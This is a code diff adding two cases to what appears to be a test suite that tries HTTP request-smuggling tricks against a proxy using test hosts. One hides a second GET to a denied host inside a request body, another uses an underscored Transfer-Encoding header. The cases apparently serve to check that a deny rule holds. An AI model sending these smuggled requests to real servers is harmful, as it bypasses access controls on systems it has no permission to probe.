@@ -522,6 +522,28 @@ def _():
         return text if DENIED in text and text.count("200 OK") > 1 else None
 
 
+@attempt("E59b", "a request in the body of a GET, for a server that overlooks it")
+def _():
+    inner = f"GET /smuggled HTTP/1.1\r\nHost: {DENIED}\r\n\r\n"
+    with dial("plain.test", 80) as stream:
+        stream.sendall((f"GET / HTTP/1.1\r\nHost: plain.test\r\nContent-Length: {len(inner)}\r\n\r\n"
+                        + inner).encode())
+        text = ""
+        stream.settimeout(3)
+        try:
+            while data := stream.recv(65536):
+                text += data.decode("latin-1")
+        except TimeoutError:
+            pass
+        return text if DENIED in text else None
+
+
+@attempt("E59c", "an underscore in place of a hyphen")
+def _():
+    return http("plain.test", "POST / HTTP/1.1\r\nHost: plain.test\r\nContent-Length: 0\r\n"
+                "Transfer_Encoding: chunked\r\n\r\n")
+
+
 @attempt("E57", "two Hosts, none, user information, folding, a space before the colon")
 def _():
     for fields in ("Host: plain.test\r\nHost: denied.test", "X: y", "Host: user@plain.test",
